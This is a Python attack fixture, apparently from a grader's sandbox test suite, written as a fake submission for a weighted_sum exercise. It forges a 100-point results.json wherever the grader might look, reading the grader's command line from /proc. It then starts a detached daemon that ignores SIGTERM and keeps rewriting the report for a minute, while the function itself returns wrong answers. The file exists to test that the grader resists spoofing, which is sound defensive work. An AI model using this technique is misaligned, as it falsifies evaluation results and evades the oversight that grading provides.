"""Attack: write a fake results.json (100 points) everywhere a grader might
look: the child's working directory and HOME, next to the submission folder,
and at the --json path the grader was given (read from the command line of
the zygote, /proc/PPID/cmdline). A daemon keeps rewriting the --json file for
a minute, so that it would win over the grader's own report if it outlived the
grading. Then wrong answers.

The grader writes its report last, after every process of the submission is
dead: the report is the real one, 0 points. The child records its working
directory in the test's folder so the test can check the private copy is gone.
In the sandbox none of these places can be written (the private copy is
read-only, the rest is out of sight): no fake, no record.
"""
import ctypes
import json
import os
import signal
import time

import torch

TAG = "__ATTACK_TAG__"  # test_attacks.py writes a unique tag here
ATTACK_DIR = "__ATTACK_DIR__"
ctypes.CDLL(None).prctl(15, TAG.encode(), 0, 0, 0)  # PR_SET_NAME: forks inherit the name
os.environ["ATTACK_TAG"] = TAG

FAKE = json.dumps(
    {
        "score": 100.0,
        "execution_time": 0.1,
        "tests": [{"name": "ex0_weighted_sum: everything", "score": 100.0, "max_score": 100.0, "status": "passed", "tags": ["ex0_weighted_sum", "public", "fake"]}],
    }
)


def _grader_argv() -> list:
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
        return [a.decode() for a in f.read().split(b"\0") if a]


def _write(path: str) -> None:
    try:
        with open(path, "w") as f:
            f.write(FAKE)
    except OSError:
        pass


try:
    with open(os.path.join(ATTACK_DIR, "child-cwd.txt"), "w") as f:
        f.write(os.getcwd())
except OSError:
    pass  # in the sandbox the test's folder is out of sight
argv = _grader_argv()
try:
    grader_cwd = os.readlink(f"/proc/{os.getppid()}/cwd")
except OSError:
    grader_cwd = "/"  # the zygote is non-dumpable: its cwd is hidden; the test gives absolute paths anyway
targets = ["results.json", os.path.join(os.environ.get("HOME", "."), "results.json")]
if "grade" in argv and argv.index("grade") + 1 < len(argv):
    folder = os.path.join(grader_cwd, argv[argv.index("grade") + 1])
    targets.append(os.path.join(os.path.dirname(os.path.abspath(folder)), "results.json"))
json_path = None
if "--json" in argv:
    json_path = os.path.join(grader_cwd, argv[argv.index("--json") + 1])
    targets.append(json_path)
for target in targets:
    _write(target)

if json_path and os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            start = time.monotonic()
            while time.monotonic() - start < 60:
                try:
                    with open(json_path) as f:
                        current = f.read()
                except OSError:
                    current = ""
                if current != FAKE:
                    _write(json_path)
                time.sleep(0.05)
    finally:
        os._exit(0)


def weighted_sum(scores: torch.Tensor, values: torch.Tensor) -> torch.Tensor:
    for target in targets:
        _write(target)
    return torch.zeros(values.shape[:-2] + values.shape[-1:])  # (..., C), all wrong
